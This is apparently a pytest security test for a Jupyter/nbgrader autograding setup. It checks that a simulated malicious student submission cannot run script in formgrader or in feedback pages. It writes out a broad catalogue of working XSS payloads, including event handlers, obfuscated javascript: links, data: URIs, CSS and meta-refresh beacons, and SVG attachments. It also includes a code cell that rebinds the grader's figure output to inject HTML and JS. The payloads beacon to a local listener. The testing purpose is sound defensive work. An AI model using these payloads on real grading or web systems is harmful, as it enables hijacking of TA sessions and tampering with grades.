"""A student attacks the TA through formgrader and the feedback pages, in a real browser.

mallory's HW1 submission carries script every way we know: in her written answer (markdown, raw
HTML, obfuscated links, an SVG attachment) and in outputs (a code cell rebinds how the student's
process reports figures, so later cells carry ``text/html``, ``image/svg+xml``,
``application/javascript`` and an SVG labelled ``image/png``). Each payload records itself in
``window.__pwned`` and asks a local listener for its number. One `make grade` run grades her and
alice (honest); then Chromium opens mallory's submission in formgrader (logged in, as a TA) and the
feedback pages she gets (`make grade`'s and `make feedback`'s) from file://. Nothing may run: no
``__pwned``, no request to the listener, no grade changed, no kernel started. The same payloads,
rendered as nbgrader did before (no inert step), do run: the control at the end.
"""

from __future__ import annotations

import base64
import http.server
import json
import shutil
import threading
import urllib.parse
import urllib.request
from pathlib import Path

import pytest

from autograde.mock_submissions import filled, load
from harness import make
from labdriver import CHROMIUM, CHROMIUM_ARGS, TOKEN, Lab, why_skip
from test_formgrader import ANSWER, WRITTEN, _submission_id

pytestmark = pytest.mark.skipif(why_skip() is not None, reason=why_skip() or "")

A = "04_hw1_layer_sizes"
MARK = "marker 5150"


class _Listener:
    """The attacker's server on 127.0.0.1: records every path asked for."""

    def __init__(self):
        hits = self.hits = []

        class H(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *a):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def _js(url: str, n: str) -> str:
    return f"(window.__pwned=window.__pwned||[]).push('{n}');new Image().src='{url}/{n}'"


def payloads(url: str) -> tuple[str, dict, str]:
    """(markdown of the written answer, its attachments, the code cell that rebinds the outputs)."""
    j = lambda n: _js(url, n)
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{j("svg-att")}"><script>{j("svg-att2")}</script></svg>'
    svg64 = base64.b64encode(svg.encode()).decode()
    md = "\n\n".join(
        [
            f"{ANSWER} {MARK}",
            f'<img src=x onerror="{j("img")}">',
            f'<IMG SRC=x OnErRoR="{j("img-case")}">',
            f'<svg onload="{j("svg")}"></svg>',
            f'<iframe srcdoc="<script>parent.{j("srcdoc")}</script>"></iframe>',
            f'<a id=l1 href="javascript:{j("js-link")}">a</a>',
            f'<a id=l2 href="&#106;avascript:{j("js-entity")}">b</a>',
            f'<a id=l3 href="data:text/html,<script>{j("data-link")}</script>">c</a>',
            f"[d](javascript:{j('md-link').replace('(', '%28').replace(')', '%29')})",
            f"![e](javascript:{j('md-img')})",
            f"![f]({url}/md-img-http)",
            f"<style>body{{background:url({url}/css)}}</style>",
            f'<p style="background:url({url}/style-attr)">g</p>',
            f'<meta http-equiv="refresh" content="0;url={url}/refresh">',
            f'<form action="{url}/form"><button id=go>go</button></form>',
            f'<base href="{url}/base/"><img src="relative.png">',
            f'<object data="data:text/html,<script>{j("object")}</script>"></object>',
            f'<embed src="data:image/svg+xml;base64,{svg64}">',
            f'<details open ontoggle="{j("details")}">h</details>',
            f"<script>{j('script')}</script>",
            "![att](attachment:x.svg)",
        ]
    )
    attachments = {"x.svg": {"image/svg+xml": svg64}}
    bundle = {
        "text/html": f'<img src=x onerror="{j("out-html")}"><script>{j("out-script")}</script>',
        "image/svg+xml": svg.replace("svg-att", "out-svg"),
        "application/javascript": j("out-js"),
        "image/png": svg64,
        "text/plain": "figure",
    }
    code = (
        "import sys\n"
        "for _m in list(sys.modules.values()):\n"
        "    if hasattr(_m, 'figures') and hasattr(_m, '_run_cell'):\n"
        f"        _m.figures = lambda: [{{'output_type': 'display_data', 'metadata': {{}}, 'data': {bundle!r}}}]\n"
        "print('patched')"
    )
    return md, attachments, code


def _mallory(url: str) -> dict:
    source, release = load(A)
    md, attachments, code = payloads(url)
    nb = filled(source, release, replace={WRITTEN: md})
    for c in nb["cells"]:
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == WRITTEN:
            c["attachments"] = attachments
    at = next(i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code")
    nb["cells"].insert(at, {"cell_type": "code", "id": "evil", "metadata": {}, "source": code, "outputs": [],
                            "execution_count": None})  # fmt: skip
    return nb


def _scores(root: Path) -> dict:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'autograde' / 'gradebook.db'}") as gb:
        return {(s.student.id, g.name): (g.auto_score, g.manual_score) for s in gb.assignment_submissions(A)
                for nb in s.notebooks for g in nb.grades}  # fmt: skip


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    listener = _Listener()
    root = tmp_path_factory.mktemp("attack") / "course"
    for d in ("solutions", "notebooks"):
        from harness import REPO

        (root / d / A).mkdir(parents=True)
        (root / d / A / f"{A}.ipynb").write_bytes((REPO / d / A / f"{A}.ipynb").read_bytes())
    source, release = load(A)
    subs = root.parent / "downloads"
    subs.mkdir()
    (subs / f"alice_{A}.ipynb").write_text(json.dumps(filled(source, release, replace={WRITTEN: ANSWER})))
    (subs / f"mallory_{A}.ipynb").write_text(json.dumps(_mallory(listener.url)))
    out = root / "autograde"
    make("grade", f"ASSIGNMENT={A}", f"SUBMISSIONS={subs}", "WORKERS=1", f"GRADE_ARGS=--out {out}")
    own = out / "feedback" / "mallory" / A / f"{A}.html"
    (root.parent / "make-grade-feedback.html").write_bytes(own.read_bytes())  # make feedback replaces it
    make("feedback", f"ASSIGNMENT={A}", f"EXPORT_ARGS=--out {out}")
    return root, listener


def _open(
    browser, url: str, listener: _Listener, login: bool = False, lab=None, seen=None
) -> tuple[list, list, object]:
    """Open ``url``, click every link; return (window.__pwned, requests to the listener, the page).
    ``seen``: a dict whose lists collect the page's console messages and navigations to the listener."""
    page = browser.new_page()
    page.set_default_timeout(60_000)
    asked = []
    if seen is not None:
        page.on("console", lambda m: seen["console"].append(m.text))
        page.on("request", lambda r: seen["navigations"].append(urllib.parse.urlsplit(r.url).path)
                if r.url.startswith(listener.url) and r.is_navigation_request() else None)  # fmt: skip
    page.on("request", lambda r: asked.append(r.url) if r.url.startswith(listener.url) else None)
    if login:
        page.goto(f"{lab.url}/login?next={url}")
        page.fill("input[type=password]", TOKEN)
        page.keyboard.press("Enter")
        page.get_by_text(MARK).first.wait_for()
    else:
        page.goto(url)
    page.wait_for_timeout(1500)
    links = "#notebook-container a[href], body > a[href], body > p a[href]"  # the notebook's, not formgrader's
    page.evaluate(f"() => document.querySelectorAll('{links}').forEach(a => {{ try {{ a.click() }} catch (e) {{}} }})")
    page.wait_for_timeout(1500)
    return page.evaluate("() => window.__pwned || []"), asked, page


def test_nothing_runs(graded):
    from playwright.sync_api import sync_playwright

    root, listener = graded
    nb = json.loads((root / "autograde" / "autograded" / "mallory" / A / f"{A}.ipynb").read_text())
    notes = json.dumps(nb)
    assert "text/html, image/svg+xml, application/javascript, image/png (not a real PNG) output left out" in notes, (
        "the output attack did not land"
    )
    before = _scores(root)
    assert before[("alice", WRITTEN)] == (None, None)
    lab = Lab(root, root.parent / "jupyterlab.log")
    pw = sync_playwright().start()
    browser = pw.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
    try:
        sub = _submission_id(root, "mallory")
        pwned, asked, page = _open(browser, f"/formgrader/submissions/{sub}/", listener, login=True, lab=lab)
        assert page.locator(f"input.score#{WRITTEN}").count() == 1, "formgrader's grading box is gone"
        assert not pwned and not asked, (pwned, asked)
        req = urllib.request.Request(f"{lab.url}/api/kernels", headers={"Authorization": f"token {TOKEN}"})
        assert json.loads(urllib.request.urlopen(req, timeout=30).read()) == []
        fb = root / "autograde" / "feedback" / "mallory" / A / f"{A}.html"
        assert MARK in fb.read_text()
        pwned, asked, _ = _open(browser, fb.as_uri(), listener)
        assert not pwned and not asked, (pwned, asked)
    finally:
        browser.close()
        pw.stop()
        lab.stop()
    assert _scores(root) == before
    assert not listener.hits, listener.hits


def test_make_grade_feedback_page(graded):
    """make grade's own page, and the page in the LMS zip, opened from file://, run nothing."""
    from playwright.sync_api import sync_playwright

    root, listener = graded
    own = root.parent / "make-grade-feedback.html"
    assert "Content-Security-Policy" in own.read_text()
    pw = sync_playwright().start()
    browser = pw.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
    try:
        pwned, asked, _ = _open(browser, own.as_uri(), listener)
        assert not pwned and not asked, (pwned, asked)
        zips = list((root / "autograde" / "feedback_zips" / A).glob("mallory*"))
        assert zips
        for f in zips:
            import zipfile

            with zipfile.ZipFile(f) as z:
                for name in z.namelist():
                    p = root.parent / f"unzipped-{name}"
                    p.write_bytes(z.read(name))
                    pwned, asked, _ = _open(browser, p.as_uri(), listener)
                    assert not pwned and not asked, (name, pwned, asked)
    finally:
        browser.close()
        pw.stop()


def _live(root: Path, listener: _Listener) -> dict:
    """mallory's notebook as she handed it in, with the outputs her code cell makes: no inert step."""
    nb = json.loads((root / "autograde" / "submitted" / "mallory" / A / f"{A}.ipynb").read_text())
    _, _, code = payloads(listener.url)
    bundle = eval(code.split("'data': ", 1)[1].rsplit("}]", 1)[0])  # our own literal
    evil = next(c for c in nb["cells"] if c.get("id") == "evil")
    # one output per type (nbconvert shows only the first type of its priority list in each)
    evil["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": {k: v}} for k, v in bundle.items()]
    return nb


def test_the_policy_stops_script_when_the_inert_step_is_bypassed(graded, tmp_path):
    """The second layer alone: mallory's autograded notebook replaced by the live one (as if inert.py had
    let everything through); formgrader's own scripts still run, hers do not, and she changes nothing."""
    from playwright.sync_api import sync_playwright

    root, listener = graded
    copy = tmp_path / "course"
    shutil.copytree(root, copy)
    graded_nb = copy / "autograde" / "autograded" / "mallory" / A / f"{A}.ipynb"
    graded_nb.write_text(json.dumps(_live(copy, listener)))
    before = _scores(copy)
    lab = Lab(copy, tmp_path / "jupyterlab.log")
    pw = sync_playwright().start()
    browser = pw.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
    seen: dict[str, list[str]] = {"console": [], "navigations": []}
    try:
        sub = _submission_id(copy, "mallory")
        pwned, asked, page = _open(browser, f"/formgrader/submissions/{sub}/", listener, login=True, lab=lab,
                                   seen=seen)  # fmt: skip
        ours = page.evaluate("() => [typeof Backbone, typeof submission_id, typeof toggle_name]")
        assert ours == ["object", "string", "function"], ("formgrader's own scripts did not run", ours)
        assert not pwned, pwned
        refused = [m for m in seen["console"] if "Content Security Policy" in m]
        assert refused, ("the policy refused nothing: were the payloads on the page?", seen["console"])
        req = urllib.request.Request(f"{lab.url}/api/kernels", headers={"Authorization": f"token {TOKEN}"})
        assert json.loads(urllib.request.urlopen(req, timeout=30).read()) == []
    finally:
        browser.close()
        pw.stop()
        lab.stop()
    assert _scores(copy) == before
    # what is left is no script: a <meta> refresh's navigation (no policy stops it; inert.py removes it)
    # Script and loads are stopped (the requests above were refused before they left: not one reached the
    # listener); what a policy cannot stop is a navigation: a link the TA clicks (the test clicks every link
    # of the notebook) or a <meta> refresh. inert.py removes the refresh; links stay links.
    assert asked and listener.hits, "nothing on the page tried to reach the listener"
    assert set(listener.hits) <= set(seen["navigations"]), (listener.hits, seen["navigations"])
    listener.hits.clear()


def test_control_the_payloads_are_live(graded, tmp_path):
    """Without the inert step (nbgrader's classic HTML of the notebook as handed in, with the outputs the
    code cell makes) the same payloads run and call the listener: so the checks above can fail."""
    import nbformat
    from nbconvert import HTMLExporter
    from playwright.sync_api import sync_playwright

    root, listener = graded
    node = nbformat.reads(json.dumps(_live(root, listener)), as_version=4)
    html = HTMLExporter(template_name="classic").from_notebook_node(node)[0]
    raw = tmp_path / "raw.html"
    raw.write_text(html)
    pw = sync_playwright().start()
    browser = pw.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
    try:
        pwned, asked, _ = _open(browser, raw.as_uri(), listener)
    finally:
        browser.close()
        pw.stop()
    # (application/javascript needs jQuery from a CDN this machine cannot reach, and nbconvert shows an
    # SVG output as an image: neither counted here; the unit tests show them live in the HTML)
    assert {"img", "img-case", "svg", "details", "script", "out-html", "out-script"} <= set(pwned), pwned
    assert asked
    listener.hits.clear()
